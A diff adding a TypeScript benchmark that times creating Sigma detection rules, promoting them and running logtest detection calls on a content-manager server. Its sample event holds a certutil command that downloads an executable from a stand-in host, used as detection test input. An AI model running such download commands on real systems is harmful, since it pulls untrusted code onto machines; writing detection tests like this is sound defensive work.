@@ -1,0 +1,111 @@
+// Rule authoring and logtest through HTTP on the in-process server (issue 29, items 1 and 5):
+// SigmaHQ's Windows rules (or generated ones when they are absent, scripts/bench/lib/sigma-rules.ts)
+// created one by one through `POST /_plugins/_content_manager/rules`, ms per rule by band (flat
+// when the ratio of the last band to the first is near 1); their promotion draft -> test; then
+// `POST logtest/detection` calls/s on an integration of 100 rules and on one of 1,000 (flat in the
+// rule count when their ratio is near 1). Embedded store on disk, Engine mocked.
+//
+//   BENCH_AUTHOR_RULES=1000 bun scripts/bench/content-authoring.bench.ts
+import { startTestServer } from '../../test/helpers/server'
+import { loadWindowsRules, type SigmaDoc } from './lib/sigma-rules'
+
+const SECONDS = Number(process.env.BENCH_SECONDS ?? 3)
+const PREFIX = '/_plugins/_content_manager'
+
+const generated = (n: number): SigmaDoc[] =>
+  Array.from({ length: n }, (_, i) => ({
+    title: `generated rule ${i}`,
+    level: 'medium',
+    logsource: { product: 'windows', category: 'process_creation' },
+    detection: {
+      selection: { 'Image|endswith': `\\tool${i % 50}.exe`, 'CommandLine|contains|all': [`-x${i} `, 'abc'] },
+      condition: 'selection',
+    },
+  }))
+
+const real = loadWindowsRules()
+const all = real ?? generated(2000)
+const count = Math.min(all.length, Number(process.env.BENCH_AUTHOR_RULES ?? all.length))
+const rules = all.slice(0, count)
+console.log(`${count} ${real ? 'SigmaHQ Windows' : 'generated'} rules`)
+
+const s = await startTestServer({ settings: { 'plugins.content_manager.max_rules': 20_000 } })
+try {
+  const integration = async (title: string) => {
+    const r = await s.request('POST', `${PREFIX}/integrations`, {
+      body: { resource: { metadata: { title, author: 'bench' }, category: 'security' } },
+    })
+    return (r.body as { message: string }).message
+  }
+  const small = await integration('win-small')
+  const large = await integration('win')
+  const rest = await integration('win-rest')
+  // A rule as an author sends it: the Sigma document, its product the integration's title.
+  const resource = (doc: SigmaDoc, title: string, product: string) => ({
+    metadata: { title, author: 'bench' },
+    level: typeof doc.level === 'string' ? doc.level : 'medium',
+    logsource: { ...(doc.logsource ?? {}), product },
+    detection: doc.detection,
+  })
+  const titles = new Set<string>()
+  const bands: Array<[number, number]> = [
+    [0, 100],
+    [100, 1000],
+    [1000, count],
+  ]
+  const msPerRule: number[] = []
+  let refused = 0
+  let firstRefusal = ''
+  for (const [from, to] of bands) {
+    if (from >= count) break
+    const t0 = performance.now()
+    for (let i = from; i < Math.min(to, count); i++) {
+      let title = rules[i].title
+      while (titles.has(title)) title += ' (2)'
+      titles.add(title)
+      // 100 rules, 1,000 rules, the others: logtest is measured on the first two.
+      const [parent, product] = i < 100 ? [small, 'win-small'] : i < 1100 ? [large, 'win'] : [rest, 'win-rest']
+      const r = await s.request('POST', `${PREFIX}/rules`, { body: { integration: parent, resource: resource(rules[i], title, product) } })
+      if (r.status !== 201) {
+        refused++
+        firstRefusal ||= JSON.stringify(r.body).slice(0, 200)
+      }
+    }
+    const ms = (performance.now() - t0) / (Math.min(to, count) - from)
+    msPerRule.push(ms)
+    console.log(`create rules ${from + 1}-${Math.min(to, count)}: ${ms.toFixed(1)} ms/rule`)
+  }
+  if (refused) console.log(`(${refused} refused, e.g. ${firstRefusal})`)
+  console.log(`ratio last band / first band: ${(msPerRule[msPerRule.length - 1] / msPerRule[0]).toFixed(2)} (flat: ~1)`)
+
+  const t0 = performance.now()
+  const preview = await s.request('GET', `${PREFIX}/promote?space=draft`)
+  const promoted = await s.request('POST', `${PREFIX}/promote`, { body: { space: 'draft', ...(preview.body as object) } })
+  console.log(`promote ${count} rules draft -> test: ${((performance.now() - t0) / 1000).toFixed(2)} s (${promoted.status})`)
+
+  const event = {
+    Image: 'C:\\Windows\\System32\\certutil.exe',
+    CommandLine: 'certutil.exe -urlcache -split -f http://example.test/a.exe a.exe',
+    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
+    EventID: 1,
+  }
+  const rate = async (id: string) => {
+    const call = () => s.request('POST', `${PREFIX}/logtest/detection`, { body: { space: 'test', integration: id, input: event } })
+    const first = await call()
+    let calls = 0
+    const started = performance.now()
+    while (performance.now() - started < SECONDS * 1000) {
+      await call()
+      calls++
+    }
+    const m = (first.body as { message: { rules_evaluated: number; rules_matched: number } }).message
+    return { perSecond: calls / ((performance.now() - started) / 1000), evaluated: m.rules_evaluated, matched: m.rules_matched }
+  }
+  const few = await rate(small)
+  const many = await rate(large)
+  console.log(`logtest/detection, ${few.evaluated} rules: ${few.perSecond.toFixed(0)} calls/s (${few.matched} matched)`)
+  console.log(`logtest/detection, ${many.evaluated} rules: ${many.perSecond.toFixed(0)} calls/s (${many.matched} matched)`)
+  console.log(`ratio ${many.evaluated} rules / ${few.evaluated} rules: ${(many.perSecond / few.perSecond).toFixed(2)} (flat: ~1)`)
+} finally {
+  await s.stop()
+}
